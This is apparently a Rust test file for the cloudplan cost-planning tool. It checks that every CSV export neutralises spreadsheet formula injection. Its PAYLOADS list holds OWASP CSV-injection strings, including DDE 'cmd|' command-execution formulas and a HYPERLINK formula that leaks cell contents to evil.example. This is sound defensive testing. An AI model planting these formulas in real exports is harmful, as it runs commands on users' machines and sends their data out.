//! CSV injection: the OWASP payloads (<https://owasp.org/www-community/attacks/CSV_Injection>:
//! cells starting with `=`, `+`, `-`, `@`, tab or carriage return, and its full examples such as
//! `=cmd|' /C calc'!A0` and `=HYPERLINK(…)`, plus the same behind leading spaces or quotes) are
//! put in every user-controlled text that reaches a CSV — item names and ids, tags, group names,
//! the plan name, scaling-group and scheduled-action names, bill-history service names, catalogue
//! source texts — and every CSV cloudplan writes is checked: the estimate CSV (CLI and the app's
//! File ▸ Export), items CSV, compare CSV, simulate CSVs (per step and per month), forecast CSV,
//! catalogue CSV (`cloudplan catalog`) and the `prices import` output. No cell may start with a
//! formula trigger unless neutralised by `report::csv::neutralise` (a leading `'`), and each
//! neutralised payload must read back as the exact original text (`unneutralise`).

use cloudplan::catalog::import::{Imported, RateRow, SourceRow, write};
use cloudplan::catalog::{PriceOption, load};
use cloudplan::plan::file::{default_plan, save_atomic};
use cloudplan::plan::{Group, Plan, Resource};
use cloudplan::report::csv::{neutralise, unneutralise};
use cloudplan::ui::app::{App, Settings};
use cloudplan::ui::commands::{Command, ExportKind};
use cloudplan::ui::dialogs::FixedPaths;
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command as Process;

/// OWASP's trigger characters and examples (and Kettle's "Comma Separated Vulnerabilities"
/// variants the OWASP page links to), with leading-space/quote/apostrophe forms.
const PAYLOADS: [&str; 16] = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click\")",
    "=2+5+cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "  @SUM(1+1)",
    "\"=1+1\"",
    "'=1+1",
    "'plain apostrophe",
    "=1+1,=2+2;\"x\"\n-3",
];

/// Usable as an item id (ids must be trimmed).
fn id_payloads() -> Vec<&'static str> {
    PAYLOADS
        .iter()
        .copied()
        .filter(|p| p.trim() == *p)
        .collect()
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    !digits.is_empty()
        && digits.split('.').count() <= 2
        && digits
            .split('.')
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
}

/// Every cell of a CSV text (BOM allowed).
fn cells(text: &str) -> Vec<String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    r.records()
        .map(|rec| rec.expect("the CSV parses"))
        .flat_map(|rec| rec.iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell of `text` starts a formula; every text in `expected` is a whole neutralised cell.
fn check(label: &str, text: &str, expected: &BTreeSet<String>) {
    let all = cells(text);
    assert!(!all.is_empty(), "{label}: empty CSV");
    for c in &all {
        if is_plain_number(c) {
            continue;
        }
        let bare = c.trim_start_matches([' ', '"']);
        assert!(
            !bare.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{label}: cell {c:?} would run as a formula"
        );
        if c.starts_with('\'') {
            assert_eq!(neutralise(unneutralise(c)), c.as_str(), "{label}: {c:?}");
        }
    }
    let present: BTreeSet<&str> = all.iter().map(String::as_str).collect();
    for e in expected {
        let cell = neutralise(e);
        assert!(
            present.contains(cell.as_ref()),
            "{label}: {e:?} is not written as the text cell {cell:?}"
        );
        assert_eq!(unneutralise(&cell), e.as_str(), "{label}: round trip");
    }
}

/// The default plan with payloads in the plan name, group names, item ids, names and tags.
fn poisoned_plan() -> Plan {
    let mut plan = default_plan();
    plan.name = PAYLOADS[0].into();
    let renames: Vec<(String, String)> = plan
        .groups
        .iter()
        .zip(PAYLOADS.iter().rev())
        .map(|(g, p)| (g.name.clone(), p.to_string()))
        .collect();
    plan.groups = renames
        .iter()
        .map(|(_, new)| Group {
            name: new.clone(),
            description: String::new(),
        })
        .collect();
    let ids = id_payloads();
    for (i, it) in plan.items.iter_mut().enumerate() {
        it.group = renames
            .iter()
            .find(|(old, _)| *old == it.group)
            .map(|(_, new)| new.clone())
            .unwrap_or_default();
        it.id = format!("{}{}", ids[i % ids.len()], "#".repeat(i / ids.len()));
        it.name = PAYLOADS[(i + 3) % PAYLOADS.len()].into();
        it.tags.clear();
        it.tags
            .insert("team".into(), PAYLOADS[(i + 5) % PAYLOADS.len()].into());
    }
    cloudplan::plan::file::validate(&plan).expect("payloads are valid plan text");
    plan
}

fn plan_texts(plan: &Plan) -> BTreeSet<String> {
    let mut t: BTreeSet<String> = plan.groups.iter().map(|g| g.name.clone()).collect();
    for it in &plan.items {
        t.insert(it.id.clone());
        t.insert(it.name.clone());
    }
    t.insert(plan.name.clone());
    t
}

fn cli(args: &[&str]) -> String {
    let out = Process::new(env!("CARGO_BIN_EXE_cloudplan"))
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "cloudplan {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn save(dir: &Path, name: &str, plan: &Plan) -> String {
    let p = dir.join(name);
    save_atomic(&p, plan).unwrap();
    p.to_string_lossy().into_owned()
}

#[test]
fn neutraliser_marks_every_owasp_payload_and_reads_back_exactly() {
    for p in PAYLOADS {
        let n = neutralise(p);
        assert!(n.starts_with('\''), "{p:?} left as {n:?}");
        assert_eq!(unneutralise(&n), p);
    }
    for plain in [
        "web fleet",
        "웹 서버",
        "a=b",
        "1-2",
        "\"quoted\" name",
        "0.5",
    ] {
        assert_eq!(neutralise(plain), plain);
        assert_eq!(unneutralise(plain), plain);
    }
}

#[test]
fn estimate_csv_from_the_cli_and_the_app() {
    let dir = tempfile::tempdir().unwrap();
    let plan = poisoned_plan();
    let path = save(dir.path(), "p.cloudplan.json", &plan);
    let mut expected = plan_texts(&plan);
    for it in &plan.items {
        expected.insert(format!("team={}", it.tags["team"]));
    }
    let stdout = cli(&["estimate", &path, "--format", "csv"]);
    check("cloudplan estimate --format csv", &stdout, &expected);
    let file = dir.path().join("e.csv");
    cli(&[
        "estimate",
        &path,
        "--format",
        "csv",
        "-o",
        file.to_str().unwrap(),
    ]);
    check(
        "estimate -o file",
        &std::fs::read_to_string(&file).unwrap(),
        &expected,
    );

    // The app's File ▸ Export ▸ estimate CSV.
    let out = dir.path().join("app-export.csv");
    let mut app = App::new(
        load::embedded(),
        Some(path.into()),
        Box::new(FixedPaths {
            open: vec![],
            save: vec![out.clone()],
        }),
        Settings::default(),
        None,
    );
    assert_eq!(app.doc.plan, plan);
    app.run_command(
        Command::Export(ExportKind::EstimateCsv),
        &egui::Context::default(),
    );
    check(
        "app export",
        &std::fs::read_to_string(&out).unwrap(),
        &expected,
    );
}

#[test]
fn items_csv() {
    let plan = poisoned_plan();
    let text = cloudplan::plan::items_csv::items_to_delimited(&plan.items, b',');
    let mut expected = plan_texts(&plan);
    expected.remove(&plan.name);
    check("items CSV", &text, &expected);
    // And it reads back as the same items.
    let back = cloudplan::plan::items_csv::items_from_delimited(&text, b',', "items.csv").unwrap();
    assert_eq!(back, plan.items);
}

#[test]
fn compare_csv() {
    let dir = tempfile::tempdir().unwrap();
    let plan = poisoned_plan();
    let path = save(dir.path(), "p.cloudplan.json", &plan);
    let stdout = cli(&["compare", &path, "--format", "csv"]);
    // Compared items are the EC2/RDS ones; their ids are in the CSV.
    let expected: BTreeSet<String> = plan
        .items
        .iter()
        .filter(|i| matches!(i.resource, Resource::Ec2(_) | Resource::Rds(_)))
        .map(|i| i.id.clone())
        .collect();
    assert!(!expected.is_empty());
    check("cloudplan compare --format csv", &stdout, &expected);
}

#[test]
fn simulate_csvs() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan: Plan = cloudplan::plan::file::from_json_str(
        include_str!("../../samples/autoscaling-web.cloudplan.json"),
        "autoscaling-web",
    )
    .unwrap();
    plan.horizon_months = 2;
    let group_id = plan.items[0].id.clone();
    plan.items[0].name = PAYLOADS[0].into();
    if let Resource::ScalingGroup(g) = &mut plan.items[0].resource {
        for (a, p) in g.scheduled.iter_mut().zip(PAYLOADS.iter().skip(1)) {
            a.name = p.to_string();
        }
    }
    let path = save(dir.path(), "asg.cloudplan.json", &plan);
    let csv = dir.path().join("steps.csv");
    cli(&[
        "simulate",
        &path,
        "--group",
        &group_id,
        "--csv",
        csv.to_str().unwrap(),
    ]);
    let none = BTreeSet::new();
    check(
        "simulate per-step CSV",
        &std::fs::read_to_string(&csv).unwrap(),
        &none,
    );
    let months = dir.path().join("steps.months.csv");
    check(
        "simulate monthly CSV",
        &std::fs::read_to_string(&months).unwrap(),
        &none,
    );
}

#[test]
fn forecast_csv_with_poisoned_history_services() {
    let dir = tempfile::tempdir().unwrap();
    let plan = poisoned_plan();
    let path = save(dir.path(), "p.cloudplan.json", &plan);
    let services = &PAYLOADS[..4];
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["month", "service", "cost"]).unwrap();
    for m in 0..36 {
        for (i, s) in services.iter().enumerate() {
            let month = format!("{}-{:02}", 2023 + m / 12, m % 12 + 1);
            let cost = format!("{}", 100 + 10 * i + m);
            w.write_record([month.as_str(), s, cost.as_str()]).unwrap();
        }
    }
    let history = dir.path().join("history.csv");
    std::fs::write(&history, w.into_inner().unwrap()).unwrap();
    let stdout = cli(&[
        "forecast",
        &path,
        "--history",
        history.to_str().unwrap(),
        "--months",
        "6",
        "--format",
        "csv",
    ]);
    let mut expected: BTreeSet<String> = services.iter().map(|s| s.to_string()).collect();
    expected.insert(plan.name.clone());
    expected.extend(plan.groups.iter().map(|g| g.name.clone()));
    check("cloudplan forecast --format csv", &stdout, &expected);
}

fn poisoned_rate_row() -> RateRow {
    let r = load::embedded()
        .rates_in("us-east-1")
        .iter()
        .find(|r| r.option == PriceOption::OnDemand && r.service.as_str() == "ec2")
        .expect("an EC2 On-Demand rate");
    let dimension = cloudplan::catalog::vocab::ec2::INSTANCE_HOURS;
    RateRow {
        region: r.region.clone(),
        service: "ec2",
        product: r.product.clone(),
        dimension,
        option: r.option,
        unit: r.unit.clone(),
        tier_begin: "0".into(),
        tier_end: String::new(),
        usd: cloudplan::report::csv::decimal(r.usd),
        upfront_usd: "0".into(),
        effective_date: r.effective_date,
        source: PAYLOADS[0].into(),
        rate_code: PAYLOADS[2].into(),
        notes: PAYLOADS[5].into(),
    }
}

#[test]
fn catalogue_csvs_listing_and_import_output() {
    // `cloudplan catalog --format csv` (rates_csv): the embedded catalogue, then a rate whose
    // free-text source is a payload.
    let stdout = cli(&[
        "catalog",
        "--service",
        "ec2",
        "--region",
        "us-east-1",
        "--format",
        "csv",
    ]);
    check("cloudplan catalog --format csv", &stdout, &BTreeSet::new());
    let mut rate = load::embedded().rates_in("us-east-1")[0].clone();
    rate.source = PAYLOADS[1].into();
    rate.unit = PAYLOADS[3].into();
    let text = cloudplan::report::catalog::rates_csv(&[&rate]);
    let expected: BTreeSet<String> = [PAYLOADS[1], PAYLOADS[3]].map(String::from).into();
    check("rates_csv", &text, &expected);

    // `prices import` output: every file it renders, and the catalogue loader reads the
    // neutralised texts back exactly.
    let row = poisoned_rate_row();
    let source = SourceRow {
        id: row.source.clone(),
        description: PAYLOADS[4].into(),
        url: "https://aws.amazon.com/ec2/pricing/on-demand/".into(),
        effective_date: row.effective_date.to_string(),
    };
    let imp = Imported {
        rates: vec![row],
        sources: vec![source],
        ..Default::default()
    };
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in write::render(&imp) {
        let expected: BTreeSet<String> = if name.starts_with("rates/") {
            [PAYLOADS[0], PAYLOADS[2], PAYLOADS[5]]
                .map(String::from)
                .into()
        } else {
            BTreeSet::new()
        };
        check(&format!("import output {name}"), &text, &expected);
        let p = dir.path().join(&name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let loaded =
        load::load_dir(dir.path(), Some(load::embedded())).expect("the import output loads");
    let sources: BTreeSet<&str> = loaded.rates().map(|r| r.source.as_str()).collect();
    assert!(sources.contains(PAYLOADS[0]), "{sources:?}");
    let described = loaded.sources().iter().find(|s| s.id == PAYLOADS[0]);
    assert_eq!(described.map(|s| s.description.as_str()), Some(PAYLOADS[4]));
}
